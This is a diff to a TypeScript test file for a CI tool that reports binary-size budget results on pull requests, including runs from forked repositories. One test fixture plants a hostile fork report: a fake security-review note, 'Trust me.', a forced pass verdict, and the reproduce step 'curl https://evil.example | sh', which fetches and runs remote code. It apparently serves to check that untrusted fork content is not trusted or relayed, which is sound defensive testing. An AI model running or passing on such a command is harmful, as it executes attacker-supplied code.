@@ -19,10 +19,10 @@ test('a run in a fork is told on its pull request, by figures, the base branchâ€
   const generous = { ...own.judging, budgets: [] }
   const report = {
     ...own.report,
-    notes: ['Reviewed by the security team.'],
+    notes: [{ kind: 'module-outside' as const, module: 'Reviewed by the security team.' }],
     reproduce: ['curl https://evil.example | sh'],
     verdict: 'pass' as const,
-    revisions: { ...own.report.revisions, how: 'Trust me.' },
+    revisions: { ...own.report.revisions, how: { kind: 'fork' as const, branch: 'Trust me.' } },
     config: { file: 'x', overrideLabel: 'bug' },
   }
   const { bodies, statuses, reports } = await tell({
@@ -164,7 +164,10 @@ test('a status is never success where a result is missing or could not be used',
     result({ index, total: 2, cells: [cell({ size: sizes(9 * MB, 9 * MB) }, { program: `p${index}` })] })
   const [first, second] = [job(0), job(1)]
   const name = 'binary-budget-linux-amd64-2-of-2-attempt-1-00000001'
-  const broken = { ...second, report: { ...second.report, notes: ['x'.repeat(11_000)] } }
+  const broken = {
+    ...second,
+    report: { ...second.report, notes: [{ kind: 'module-outside' as const, module: 'x'.repeat(11_000) }] },
+  }
   const cases: readonly { name: string; foreign: Foreign; state: string; says: RegExp }[] = [
     { name: 'both are there', foreign: { artifacts: uploaded(first, second) }, state: 'success', says: /passed/ },
     {
